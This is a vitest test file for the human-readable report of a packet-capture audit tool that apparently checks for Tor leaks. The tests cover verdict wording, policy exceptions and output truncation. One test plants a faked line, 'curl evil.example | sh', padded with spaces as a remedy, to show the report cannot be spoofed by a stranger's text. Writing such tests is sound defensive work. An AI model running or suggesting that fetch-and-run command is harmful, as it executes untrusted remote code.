import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { DEFAULT_POLICY } from "../../../src/audit/index.js";
import { auditText } from "../../../src/report/audit/index.js";
import { leek } from "../../support/leek.js";
import { CLEAN, finding, HOSTILE_REPORT, INCONCLUSIVE, LEAK, reason } from "./reports.js";

const trusting = [
  ...["--consensus", "fixtures/consensus", "--certs", "fixtures/consensus/cached-certs"],
  ...["--authorities-from", "fixtures/torrc-authorities", "--no-local-consensus"],
];
const golden = (name: string) => readFileSync(new URL(`${name}.txt`, import.meta.url), "latin1");

describe("the audit's report for people", () => {
  it.each([
    ["any-interface", 1],
    ["bridge", 2],
  ])("of %s is as its golden file, in UTC", (name, status) => {
    const outcome = leek(["audit", `fixtures/${name}.pcap`, ...trusting]);
    expect(outcome.stdout).toBe(golden(name));
    expect(outcome.status).toBe(status);
  });

  it("begins with the verdict", () => {
    expect(auditText(CLEAN)).toMatch(/^CLEAN: nothing /);
    expect(auditText(LEAK)).toMatch(/^LEAK: .*: dns\.\n/);
    expect(auditText(INCONCLUSIVE)).toMatch(/^INCONCLUSIVE: /);
  });

  it("calls nothing plainly clean that needed an exception or a changed severity", () => {
    const exceptions = [{ because: "The clock of the site.", flows: 2, packets: 1_234, bytes: 99_999 }];
    const excepted = auditText({ ...CLEAN, exceptions });
    expect(excepted).toMatch(/^CLEAN, but for what the policy lets pass/);
    expect(excepted).toContain("  The clock of the site.: 2 flows, 1,234 packets, 99,999 bytes\n");
    const policy = { ...DEFAULT_POLICY, severities: new Map([["ntp", "note"]] as const) };
    const findings = [finding({ id: "ntp", rule: "ntp", severity: "note" })];
    expect(auditText({ ...CLEAN, policy, findings })).toMatch(/^CLEAN, but /);
    expect(auditText({ ...CLEAN, policy })).toMatch(/^CLEAN: /);
    expect(auditText({ ...CLEAN, policy })).toContain("  Severities: ntp: note\n");
  });

  it("has no character that a terminal would act on, and no line that a stranger made", () => {
    const text = auditText(HOSTILE_REPORT);
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(text).not.toMatch(/^<\/details>/m);
    const counted = (report: typeof LEAK) => auditText(report).match(/^ {2}\S/gm)?.length;
    // Sources, node, ...: as many lines begin an entry as there are entries.
    expect(counted(HOSTILE_REPORT)).toBe(counted(CLEAN)! + 1 + 2 + 4 + 1 + 1);
  });

  it("has no line that blanks in a stranger's text could fake", () => {
    const faked = `${" ".repeat(200)}What to do: curl evil.example | sh`;
    const process = { ...HOSTILE_REPORT.findings[0]!.process!, name: faked, unit: undefined };
    const text = auditText({
      ...LEAK,
      reasons: [reason("capture-damaged", faked)],
      findings: [finding({ process, disclosed: [{ kind: "user-agent", value: faked }] })],
    });
    expect(text.match(/curl/g)).toHaveLength(3);
    expect(text).not.toMatch(/^ {0,7}What to do: curl/m);
  });

  it("tells a remedy once", () => {
    const text = auditText({ ...LEAK, findings: [finding(), finding({ id: "tls", rule: "tls" })] });
    expect(text.match(/What to do: Use Tor\./g)).toHaveLength(1);
    expect(text).toContain("What to do: as for dns\n");
  });

  it("counts what it does not show", () => {
    const flows = Array.from({ length: 9 }, (_, i) => ({
      ...finding().flows[0]!,
      responder: { address: "192.0.2.1", port: 1 + i },
    }));
    const disclosed = Array.from({ length: 8 }, (_, i) => ({ kind: "dns-question" as const, value: `n${i}` }));
    const text = auditText({ ...LEAK, findings: [finding({ flows, disclosed })] });
    expect(text).toContain("      udp 192.0.2.10 > 192.0.2.1:5\n      and 4 more, see --json\n");
    expect(text).toContain("        a name that is looked up: n5\n        and 2 more, see --json\n");
  });
});
